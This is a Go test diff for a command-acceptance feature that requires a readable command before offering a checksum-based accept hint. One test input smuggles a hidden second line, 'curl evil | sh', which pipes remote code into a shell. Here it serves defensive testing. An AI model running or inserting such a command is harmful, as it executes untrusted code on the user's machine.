@@ -33,11 +33,24 @@ func TestProjectCommandIsAcceptedByAPerson(t *testing.T) {
 	}
 }
 
+// TestARefusalThatHidesSomethingNamesNoSum, because a person would accept what it hasn't read.
+func TestARefusalThatHidesSomethingNamesNoSum(t *testing.T) {
+	for command, whole := range map[string]bool{
+		"npm ci": true, strings.Repeat("x", 160): true, strings.Repeat("x", 161): false, "npm ci\ncurl evil | sh": false, "npm\u200b ci": false, "a  b": false,
+	} {
+		c := stick.ProjectCommand{Key: "worker.setup", Command: command}
+		hint := stick.AsError(c.RequireAccepted(stick.Acceptance{}, true)).Hint.String()
+		if strings.Contains(hint, "--accept "+c.ShortSum()) != whole || !strings.Contains(hint, "tt worker init") {
+			t.Errorf("%q: %s", command, hint)
+		}
+	}
+}
+
 func TestProjectCommandIsNamedByItsSum(t *testing.T) {
 	c := stick.ProjectCommand{Key: "worker.setup", Command: "npm ci"}
 	sum := c.Sum()
 	for named, want := range map[string]bool{
-		sum: true, c.ShortSum(): true, strings.ToUpper(sum[:6]): true, sum[:5]: false, "": false, sum + "0": false, "zzzzzzzz": false,
+		sum: true, c.ShortSum(): true, strings.ToUpper(sum[:32]): true, sum[:31]: false, sum[:12]: false, "": false, sum + "0": false, "zzzzzzzz": false,
 	} {
 		if c.Named(named) != want {
 			t.Errorf("%q names it: %v, want %v", named, !want, want)
